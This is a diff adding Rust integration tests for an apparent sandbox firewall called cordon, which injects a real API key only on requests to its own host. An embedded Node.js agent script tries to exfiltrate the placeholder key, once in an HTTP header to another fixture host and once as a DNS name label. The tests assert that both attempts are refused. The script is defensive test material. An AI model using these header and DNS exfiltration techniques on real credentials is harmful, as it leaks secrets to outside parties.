@@ -1,0 +1,151 @@
+//! The AI firewall's credentials on the real kernel: the agent (the Anthropic SDK from npm)
+//! holds only a placeholder, cordon intercepts TLS to the credential's host with the run's
+//! CA (trusted inside the sandbox through the system store and NODE_EXTRA_CA_CERTS, with no
+//! help from the agent), verifies the upstream against `upstream_ca`, and puts the real key in
+//! the request; the placeholder sent anywhere else is refused; the key is in no record.
+//! Upstreams are on the host's loopback (127.0.0.5), reached by name through `resolve`.
+
+mod common;
+
+use common::*;
+
+const AGENT: &str = r#"
+const Anthropic = require('/opt/cordon-test-agents/node_modules/@anthropic-ai/sdk');
+const http = require('http');
+const dns = require('dns');
+const key = process.env.ANTHROPIC_API_KEY || '';
+console.log('key_is_placeholder\t' + key.startsWith('cordon-placeholder-'));
+const client = new Anthropic({ maxRetries: 0, timeout: 20000 });
+function get(opts) {
+  return new Promise(res => {
+    const r = http.get(opts, resp => { resp.resume(); resp.on('end', () => res('status:' + resp.statusCode)); });
+    r.on('error', e => res('error:' + e.code));
+    r.setTimeout(10000, () => { r.destroy(); res('error:timeout'); });
+  });
+}
+(async () => {
+  try {
+    const m = await client.messages.create({ model: 'claude-test', max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] });
+    console.log('reply\t' + m.content[0].text);
+  } catch (e) { console.log('reply\terror:' + e.status); }
+  // The placeholder carried to another allowed host, in a header and in a name.
+  console.log('exfil_header\t' + await get({ host: 'other.fixture.test', port: Number(process.argv[2]), path: '/', headers: { 'x-token': key } }));
+  console.log('plain_request\t' + await get({ host: 'other.fixture.test', port: Number(process.argv[2]), path: '/' }));
+  const label = key.slice(0, 60);
+  console.log('exfil_dns\t' + await new Promise(res => dns.lookup(label + '.other.fixture.test', e => res(e ? 'error:' + e.code : 'resolved'))));
+})();
+"#;
+
+#[test]
+fn the_agent_holds_a_placeholder_and_the_real_key_reaches_only_its_host() {
+    require_root();
+    let s = Scratch::new();
+    let d = s.path();
+    test_ca(d, "ca.pem", "api.anthropic.com", "api");
+    let key = "sk-ant-api03-firewall-canary-77aa88bb99cc00dd11ee22ff33";
+    let mut api = messages_stand_in(d, "127.0.0.5", "stand-in got the real key", Some(key));
+    let port = http_fixture("other says hi", 4);
+    s.file("agent.js", AGENT);
+    let profile = log_only_profile(
+        &s,
+        "fw",
+        "agent",
+        &format!(
+            "[network]\nallow = [\"api.anthropic.com\", \"other.fixture.test:{port}\", \"*.other.fixture.test:{port}\"]\n\
+             resolve = {{ \"api.anthropic.com\" = \"127.0.0.5\", \"other.fixture.test\" = \"127.0.0.1\" }}\n\
+             upstream_ca = \"{}\"\n\
+             [[network.credential]]\nhost = \"api.anthropic.com\"\nheader = \"x-api-key\"\nsecret = \"env:ANTHROPIC_API_KEY\"\n",
+            d.join("ca.pem").display()
+        ),
+    );
+    let trace = d.join("run.trace");
+    let ev = d.join("events.jsonl");
+    let mut c = run_cmd(
+        &profile,
+        d,
+        &[
+            "--trace",
+            trace.to_str().unwrap(),
+            "--events",
+            ev.to_str().unwrap(),
+        ],
+        &["/usr/bin/node", "agent.js", &port.to_string()],
+    );
+    c.env("ANTHROPIC_API_KEY", key);
+    let out = output(c);
+    let _ = api.kill();
+    let _ = api.wait();
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(0), "{}\n{err}", stdout(&out));
+    let r = results(&stdout(&out));
+    assert_eq!(r["key_is_placeholder"], "true", "{r:?}");
+    assert_eq!(r["reply"], "stand-in got the real key", "{r:?}\n{err}");
+    assert!(r["exfil_header"].starts_with("error:"), "{r:?}");
+    assert_eq!(r["plain_request"], "status:200", "{r:?}");
+    assert!(r["exfil_dns"].starts_with("error:"), "{r:?}");
+    assert!(
+        err.contains("credential for api.anthropic.com") && err.contains("intercepted"),
+        "{err}"
+    );
+    let events = events_of(&ev);
+    let http: Vec<&serde_json::Value> = events.iter().filter_map(|e| e.get("http")).collect();
+    assert!(
+        http.iter().any(|h| h["method"] == "POST"
+            && h["host"] == "api.anthropic.com"
+            && h["path"].as_str().unwrap().starts_with("/v1/messages")
+            && h["status"] == 200),
+        "{http:#?}"
+    );
+    let refused: Vec<&serde_json::Value> = events
+        .iter()
+        .filter_map(|e| e.get("connection"))
+        .filter(|c| c["allowed"] != true)
+        .collect();
+    assert!(
+        refused.iter().any(|c| c["reason"]
+            .as_str()
+            .unwrap_or("")
+            .contains("placeholder of ANTHROPIC_API_KEY")),
+        "{refused:#?}"
+    );
+    let dns_refused = events
+        .iter()
+        .filter_map(|e| e.get("dns"))
+        .any(|q| q["rule"].as_str().unwrap_or("").contains("placeholder"));
+    assert!(dns_refused, "the name carrying the placeholder was not refused");
+    let has = |bytes: &[u8]| bytes.windows(key.len()).any(|w| w == key.as_bytes());
+    assert!(!has(&std::fs::read(&trace).unwrap()), "the key reached the trace");
+    assert!(!has(&std::fs::read(&ev).unwrap()), "the key reached the events");
+    assert!(
+        !has(&out.stderr) && !has(&out.stdout),
+        "the key reached cordon's output"
+    );
+}
+
+#[test]
+fn a_credential_that_cannot_be_read_stops_the_run_naming_it() {
+    require_root();
+    let s = Scratch::new();
+    let profile = s.file(
+        "profiles/bad.toml",
+        "extends = \"agent\"\n[[network.credential]]\nhost = \"api.anthropic.com\"\nsecret = \"env:CORDON_TEST_NO_SUCH_KEY\"\n",
+    );
+    let marker = s.path().join("ran");
+    let mut c = run_cmd(
+        profile.to_str().unwrap(),
+        s.path(),
+        &[],
+        &["/usr/bin/touch", marker.to_str().unwrap()],
+    );
+    c.env_remove("CORDON_TEST_NO_SUCH_KEY");
+    let out = output(c);
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains("network.credential for api.anthropic.com (env:CORDON_TEST_NO_SUCH_KEY)")
+            && err.contains("--preserve-env=CORDON_TEST_NO_SUCH_KEY")
+            && err.contains("no agent was started"),
+        "{err}"
+    );
+    assert!(!marker.exists(), "the agent ran");
+}
